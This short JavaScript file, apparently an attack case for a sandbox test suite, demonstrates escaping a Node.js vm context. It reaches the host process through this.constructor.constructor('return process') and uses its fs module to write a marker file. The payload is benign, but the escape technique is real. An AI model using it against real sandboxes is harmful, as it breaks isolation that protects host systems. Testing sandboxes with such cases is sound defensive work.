/* @attack {"title": "vm.runInNewContext + this.constructor.constructor('return process') to reach the outer process, then a fresh fs from getBuiltinModule writes TMP_MARKER"} */
import vm from 'node:vm';
const outer = vm.runInNewContext('this.constructor.constructor("return process")()');
const fs = outer.getBuiltinModule('fs');
fs.writeFileSync(outer.env.TMP_MARKER, 'escaped from a vm context\n');
